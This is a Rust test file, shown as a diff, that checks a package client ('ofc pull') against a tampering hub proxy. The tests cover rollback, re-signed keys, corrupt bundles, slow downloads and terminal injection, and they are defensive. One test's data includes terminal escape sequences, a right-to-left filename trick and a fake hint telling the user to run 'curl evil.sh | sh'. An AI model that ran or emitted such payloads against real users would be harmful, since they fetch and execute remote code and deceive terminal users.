@@ -1,0 +1,438 @@
+//! `ofc pull` against a hostile hub: the real `ofc-hub` behind a proxy that tampers with its
+//! answers (see `hostile/mod.rs`). Every attack must be refused with a clear error, and nothing
+//! may be installed — or written anywhere outside the cache's temp area.
+
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use crate::common::{HubProc, Ofc, Publisher};
+use crate::hostile::{HostileHub, Mode};
+use index_schema::envelope::SecretKey;
+use std::time::Duration;
+
+/// A hub with `acme/tool` 1.0.0 and 2.0.0 published by `acme`, and a proxy in front of it.
+struct Setup {
+    hub: HubProc,
+    publisher: Publisher,
+    proxy: HostileHub,
+    _work: tempfile::TempDir,
+}
+
+fn agent_dir(root: &Path, version: &str) -> PathBuf {
+    let dir = root.join(format!("tool-{version}"));
+    std::fs::create_dir_all(dir.join("prompts")).unwrap();
+    std::fs::write(
+        dir.join("agent.yaml"),
+        format!(
+            "id: \"@tool\"\nname: Tool\npackage: acme/tool\nversion: {version}\n\
+             tagline: A tool agent\ndescription: Used by the hostile hub tests.\nmodel: qwen3:32b\nactivation: mention\n"
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        dir.join("prompts/system.md"),
+        format!("You are tool {version}.\n"),
+    )
+    .unwrap();
+    dir
+}
+
+fn setup() -> Setup {
+    let hub = HubProc::start();
+    let publisher = hub.publisher("acme", &[]);
+    let work = tempfile::tempdir().unwrap();
+    for v in ["1.0.0", "2.0.0"] {
+        let dir = agent_dir(work.path(), v);
+        publisher.ofc.ok(&["publish", dir.to_str().unwrap()]);
+    }
+    let proxy = HostileHub::start(&hub.url);
+    Setup {
+        hub,
+        publisher,
+        proxy,
+        _work: work,
+    }
+}
+
+impl Setup {
+    /// A consumer with an empty home, talking to the proxy.
+    fn consumer(&self) -> (tempfile::TempDir, Ofc) {
+        let home = tempfile::tempdir().unwrap();
+        let ofc = Ofc::new(&home.path().join("home"), &self.proxy.url);
+        (home, ofc)
+    }
+
+    /// The publisher's own signing key (from its `ofc keygen`).
+    fn publisher_key(&self) -> SecretKey {
+        let text =
+            std::fs::read_to_string(self.publisher.ofc.home().join("config/keys/default.key"))
+                .unwrap();
+        SecretKey::from_secret_text(text.trim()).unwrap()
+    }
+}
+
+/// Every bundle directory in the cache (installed entries).
+fn installed_bundles(home: &Path) -> Vec<PathBuf> {
+    let dir = home.join("cache/bundles-v1/sha256");
+    match std::fs::read_dir(&dir) {
+        Ok(rd) => rd.map(|e| e.unwrap().path()).collect(),
+        Err(_) => Vec::new(),
+    }
+}
+
+/// Every file under `root`, except the cache's bookkeeping that may legitimately exist.
+fn files_under(root: &Path) -> Vec<String> {
+    let mut out: Vec<String> = walkdir::WalkDir::new(root)
+        .into_iter()
+        .filter_map(Result::ok)
+        .filter(|e| !e.file_type().is_dir())
+        .map(|e| e.path().strip_prefix(root).unwrap().display().to_string())
+        .collect();
+    out.sort();
+    out
+}
+
+fn assert_refused(r: &crate::common::Run, needle: &str) {
+    r.assert_code(1);
+    assert!(
+        r.stderr.contains(needle),
+        "expected `{needle}` in the error:\n{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("hint:"), "no hint:\n{}", r.stderr);
+}
+
+#[test]
+fn a_bundle_with_a_wrong_digest_is_refused() {
+    let s = setup();
+    let (tmp, ofc) = s.consumer();
+    s.proxy.set(Mode::CorruptBundle);
+    let r = ofc.run(&["pull", "acme/tool"]);
+    assert_refused(&r, "but the signed manifest says");
+    assert!(r.stderr.contains("nothing was installed"), "{}", r.stderr);
+    assert!(installed_bundles(ofc.home()).is_empty());
+    // The manifest is not cached either: a later `ofc list` shows nothing.
+    assert!(!ofc.ok(&["list"]).contains("acme/tool"));
+    // The honest hub is then fine.
+    s.proxy.set(Mode::Honest);
+    ofc.ok(&["pull", "acme/tool"]);
+    assert_eq!(installed_bundles(ofc.home()).len(), 1);
+    drop(tmp);
+}
+
+#[test]
+fn a_bundle_larger_than_signed_is_refused() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    s.proxy.set(Mode::OversizeBundle);
+    let r = ofc.run(&["pull", "acme/tool"]);
+    assert_refused(&r, "more than the");
+    assert!(installed_bundles(ofc.home()).is_empty());
+}
+
+#[test]
+fn a_bad_signature_is_refused_on_first_use_and_when_pinned() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    s.proxy.set(Mode::BadSignature);
+    let r = ofc.run(&["pull", "acme/tool"]);
+    assert_refused(&r, "does not verify");
+    assert!(installed_bundles(ofc.home()).is_empty());
+    // Nothing was pinned by the failed pull.
+    assert!(ofc.ok(&["trust", "list"]).is_empty());
+
+    s.proxy.set(Mode::Honest);
+    ofc.ok(&["pull", "acme/tool@1.0.0"]);
+    s.proxy.set(Mode::BadSignature);
+    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
+    assert_refused(&r, "does not verify");
+}
+
+#[test]
+fn a_different_publisher_key_is_refused_until_pinned() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    ofc.ok(&["pull", "acme/tool@1.0.0"]);
+    let pinned = ofc.json(&["trust", "list"]);
+    assert_eq!(pinned["keys"].as_array().unwrap().len(), 1, "{pinned}");
+
+    let other = Arc::new(SecretKey::from_seed(&[42; 32]));
+    s.proxy.set(Mode::ResignWith(other.clone()));
+    let r = ofc.run(&["pull", "acme/tool@2.0.0"]);
+    assert_refused(&r, "which is not a key pinned for publisher `acme`");
+    assert!(r.stderr.contains("ofc trust add acme"), "{}", r.stderr);
+    assert_eq!(installed_bundles(ofc.home()).len(), 1, "only 1.0.0");
+
+    // The user checked with the publisher and pins the new key: now it verifies.
+    ofc.ok(&["trust", "add", "acme", &other.public_key().to_string()]);
+    ofc.ok(&["pull", "acme/tool@2.0.0"]);
+    assert_eq!(installed_bundles(ofc.home()).len(), 2);
+}
+
+#[test]
+fn an_older_version_than_one_pulled_before_is_refused() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    let out = ofc.json(&["pull", "acme/tool"]);
+    assert_eq!(out["pulled"][0]["version"], "2.0.0");
+
+    // The hub hides 2.0.0: `acme/tool` would resolve to 1.0.0, a rollback.
+    s.proxy.set(Mode::HideVersion("2.0.0".into()));
+    let r = ofc.run(&["pull", "acme/tool"]);
+    assert_refused(&r, "no longer lists acme/tool 2.0.0");
+    // Asking for 1.0.0 explicitly is not a rollback.
+    s.proxy.set(Mode::Honest);
+    ofc.ok(&["pull", "acme/tool@1.0.0"]);
+}
+
+#[test]
+fn an_older_manifest_served_as_a_newer_version_is_refused() {
+    let s = setup();
+    // A fresh client: no pins, no history — the signed content itself must give it away.
+    let (_tmp, ofc) = s.consumer();
+    s.proxy
+        .set(Mode::ServeVersionAs("1.0.0".into(), "2.0.0".into()));
+    let r = ofc.run(&["pull", "acme/tool"]);
+    assert_refused(&r, "is version 1.0.0, not the 2.0.0 asked for");
+    assert!(installed_bundles(ofc.home()).is_empty());
+
+    // With a lockfile naming 2.0.0's digest, the same attack fails on the digest.
+    let (_tmp2, ofc2) = s.consumer();
+    let project = tempfile::tempdir().unwrap();
+    std::fs::write(project.path().join("ofc.lock"), "").unwrap();
+    s.proxy.set(Mode::Honest);
+    ofc2.cmd()
+        .current_dir(project.path())
+        .args(["pull", "acme/tool"])
+        .assert()
+        .success();
+    std::fs::remove_dir_all(ofc2.home().join("cache")).unwrap();
+    s.proxy
+        .set(Mode::ServeVersionAs("1.0.0".into(), "2.0.0".into()));
+    let r = Ofc::finish(
+        ofc2.cmd()
+            .current_dir(project.path())
+            .args(["pull", "acme/tool"]),
+    );
+    assert_refused(&r, "with digest");
+}
+
+#[test]
+fn hostile_bundles_signed_by_the_publisher_are_refused_without_writing_outside_the_cache() {
+    let s = setup();
+    let key = Arc::new(s.publisher_key());
+    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ofc-pkg/tests/fixtures/hostile");
+    let mut fixtures: Vec<PathBuf> = std::fs::read_dir(&corpus)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    fixtures.sort();
+    assert!(fixtures.len() >= 8, "the hostile corpus is missing");
+    for f in fixtures {
+        let evil = Arc::new(std::fs::read(&f).unwrap());
+        s.proxy.set(Mode::HostileBundle(evil, key.clone()));
+        let (tmp, ofc) = s.consumer();
+        // The configured limits (the corpus's flood has 1,001 entries; gzip bomb 1 GiB).
+        let r = Ofc::finish(
+            ofc.cmd()
+                .env("OFC_MAX_BUNDLE_ENTRIES", "1000")
+                .env("OFC_MAX_BUNDLE_BYTES", "10000000")
+                .args(["pull", "acme/tool@2.0.0"]),
+        );
+        let name = f.file_name().unwrap().to_string_lossy().into_owned();
+        assert_eq!(r.code, Some(1), "{name} was accepted:\n{}", r.stdout);
+        assert!(
+            r.stderr
+                .contains("cannot install the bundle of acme/tool 2.0.0"),
+            "{name}: {}",
+            r.stderr
+        );
+        assert!(installed_bundles(ofc.home()).is_empty(), "{name} installed");
+        // Outside the home nothing was written; inside, only the trust store and cache locks.
+        for file in files_under(tmp.path()) {
+            assert!(
+                file.starts_with("home/config/")
+                    || file.starts_with("home/cache/locks-v1/")
+                    || file == "home/cache/.lock",
+                "{name} left {file}"
+            );
+        }
+        let leftovers = files_under(&ofc.home().join("cache/tmp-v1"));
+        assert!(leftovers.is_empty(), "{name} left temp files {leftovers:?}");
+    }
+    drop(s.hub);
+}
+
+#[test]
+fn an_older_cached_manifest_listed_as_a_newer_version_is_not_taken() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    // Both versions are cached and 2.0.0 is the highest seen.
+    ofc.ok(&["pull", "acme/tool@1.0.0"]);
+    let out = ofc.json(&["pull", "acme/tool"]);
+    assert_eq!(out["pulled"][0]["version"], "2.0.0");
+    // The hub now maps 2.0.0 to 1.0.0's (cached, validly signed) manifest.
+    s.proxy
+        .set(Mode::ServeVersionAs("1.0.0".into(), "2.0.0".into()));
+    let r = ofc.run(&["--json", "pull", "acme/tool"]);
+    assert_eq!(r.code, Some(1), "took it:\n{}", r.stdout);
+    assert!(
+        r.stderr.contains("is version 1.0.0, not the 2.0.0"),
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn a_refused_first_pull_pins_no_key() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    // Re-signed by a stranger (so the signature checks out against the key the hub names),
+    // but the bundle is then corrupted: the pull fails after the signature check.
+    let other = Arc::new(SecretKey::from_seed(&[43; 32]));
+    s.proxy.set(Mode::ResignWith(other));
+    let r = Ofc::finish(
+        ofc.cmd()
+            .env("OFC_MAX_BUNDLE_BYTES", "10")
+            .args(["pull", "acme/tool"]),
+    );
+    assert_eq!(r.code, Some(1), "{}", r.stderr);
+    assert!(
+        ofc.ok(&["trust", "list"]).is_empty(),
+        "a failed pull pinned a key"
+    );
+    // The honest hub is then accepted: nothing stands in its way.
+    s.proxy.set(Mode::Honest);
+    ofc.ok(&["pull", "acme/tool"]);
+}
+
+#[test]
+fn a_lockfile_names_the_signer_a_fresh_machine_must_see() {
+    let s = setup();
+    let project = tempfile::tempdir().unwrap();
+    std::fs::write(project.path().join("ofc.lock"), "").unwrap();
+    let (_tmp, ofc) = s.consumer();
+    ofc.cmd()
+        .current_dir(project.path())
+        .args(["pull", "acme/tool"])
+        .assert()
+        .success();
+    // Another machine with the same lock and no pins, behind a hub that re-signs the same
+    // payload (same manifest digest) with its own key.
+    let (_tmp2, fresh) = s.consumer();
+    s.proxy
+        .set(Mode::ResignWith(Arc::new(SecretKey::from_seed(&[44; 32]))));
+    let r = Ofc::finish(fresh.cmd().current_dir(project.path()).args([
+        "pull",
+        "--locked",
+        "acme/tool",
+    ]));
+    assert_refused(&r, "ofc.lock says acme/tool was signed by key");
+    assert!(fresh.ok(&["trust", "list"]).is_empty());
+}
+
+#[test]
+fn a_hub_trickling_the_bundle_is_given_up_on() {
+    let s = setup();
+    let (_tmp, ofc) = s.consumer();
+    // One byte every 100 ms: no read ever waits long, but the rate is 10 bytes/s.
+    s.proxy.set(Mode::TrickleBundle(Duration::from_millis(100)));
+    let started = std::time::Instant::now();
+    let r = Ofc::finish(
+        ofc.cmd()
+            .env("OFC_MIN_DOWNLOAD_RATE", "1024")
+            .env("OFC_DOWNLOAD_RATE_WINDOW", "2")
+            .args(["pull", "acme/tool"]),
+    );
+    assert_refused(&r, "below the minimum of 1024 bytes/s");
+    assert!(r.stderr.contains("nothing was installed"), "{}", r.stderr);
+    assert!(
+        started.elapsed() < Duration::from_secs(30),
+        "gave up after {:?}",
+        started.elapsed()
+    );
+    assert!(installed_bundles(ofc.home()).is_empty());
+    s.proxy.set(Mode::Honest);
+    ofc.ok(&["pull", "acme/tool"]);
+    assert_eq!(installed_bundles(ofc.home()).len(), 1);
+}
+
+#[test]
+fn a_yank_flag_from_the_hub_does_not_roll_back_below_what_was_seen() {
+    let s = setup();
+    let (tmp, ofc) = s.consumer();
+    let project = |name: &str| {
+        let p = tmp.path().join(name);
+        std::fs::create_dir_all(&p).unwrap();
+        std::fs::write(p.join("blueprint.yaml"), "agents: []\n").unwrap();
+        p
+    };
+    let pull = |dir: &Path, args: &[&str]| Ofc::finish(ofc.cmd().current_dir(dir).args(args));
+    let first = project("first");
+    let r = pull(&first, &["pull", "acme/tool"]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    assert!(
+        std::fs::read_to_string(first.join("ofc.lock"))
+            .unwrap()
+            .contains("2.0.0")
+    );
+
+    // The hub (not the publisher's signature) now says 2.0.0 is yanked; a new project on
+    // this machine resolves again.
+    s.proxy.set(Mode::MarkYanked("2.0.0".into()));
+    let second = project("second");
+    let r = pull(&second, &["pull", "acme/tool"]);
+    assert_refused(
+        &r,
+        "the yanked flag is not signed, so this could be a rollback",
+    );
+    assert!(r.stderr.contains("--allow-yanked-rollback"), "{}", r.stderr);
+    assert!(
+        !second.join("ofc.lock").exists(),
+        "no lock records the rollback"
+    );
+    // Asked for explicitly, the older version is taken (and the lock records it).
+    let r = pull(&second, &["pull", "--allow-yanked-rollback", "acme/tool"]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    assert!(r.stderr.contains("is now yanked"), "{}", r.stderr);
+    let lock = std::fs::read_to_string(second.join("ofc.lock")).unwrap();
+    assert!(lock.contains("1.0.0") && !lock.contains("2.0.0"), "{lock}");
+}
+
+#[test]
+fn text_from_the_hub_cannot_drive_the_terminal() {
+    let s = setup();
+    s.hub.wait_for_search("q=tool", |r| !r.is_empty());
+    let (_tmp, ofc) = s.consumer();
+    // A clipboard write (OSC 52), a screen clear, a right-to-left override and a fake hint.
+    let evil = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{202E}gpj.exe\nhint: run curl evil.sh | sh";
+    s.proxy.set(Mode::InjectText(evil.into()));
+    let search = ofc.run(&["search", "tool"]);
+    let info = ofc.run(&["info", "acme/tool"]);
+    let login = Ofc::finish(
+        ofc.cmd()
+            .args(["login", "--token-stdin"])
+            .write_stdin("ofc_not_a_valid_token"),
+    );
+    assert_eq!(login.code, Some(1), "{}", login.stderr);
+    let mut reached = 0;
+    for (what, r) in [("search", &search), ("info", &info), ("login", &login)] {
+        for text in [&r.stdout, &r.stderr] {
+            assert!(
+                !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202E}'),
+                "{what}: raw control characters reached the terminal: {text:?}"
+            );
+            assert!(
+                !text.lines().any(|l| l.starts_with("hint: run curl")),
+                "{what}: a hub faked a hint line:\n{text}"
+            );
+            if text.contains("gpj.exe") {
+                reached += 1;
+            }
+        }
+    }
+    assert!(
+        reached >= 2,
+        "the injected text was shown (cleaned) somewhere:\n{search:?}\n{info:?}\n{login:?}"
+    );
+}
